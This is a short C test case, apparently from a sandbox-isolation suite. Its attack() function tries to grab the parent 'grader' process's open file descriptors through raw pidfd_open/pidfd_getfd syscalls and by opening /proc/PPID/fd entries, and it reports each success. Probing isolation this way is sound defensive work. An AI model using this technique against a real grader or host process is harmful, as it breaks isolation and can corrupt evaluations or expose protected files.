/* Takes the grader's open files: pidfd_getfd, and /proc/PPID/fd. */
#include "attack.h"

static void attack(void)
{
    char path[64];
    const int grader = (int)syscall(434, getppid(), 0); /* pidfd_open */
    for (int i = 0; i < 16; i++) {
        if (grader >= 0 && syscall(438, grader, i, 0) >= 0) /* pidfd_getfd */
            achieved("descriptor %d was taken", i);
        snprintf(path, sizeof path, "/proc/%d/fd/%d", getppid(), i);
        if (open(path, O_RDONLY) >= 0)
            achieved("%s was opened", path);
    }
}
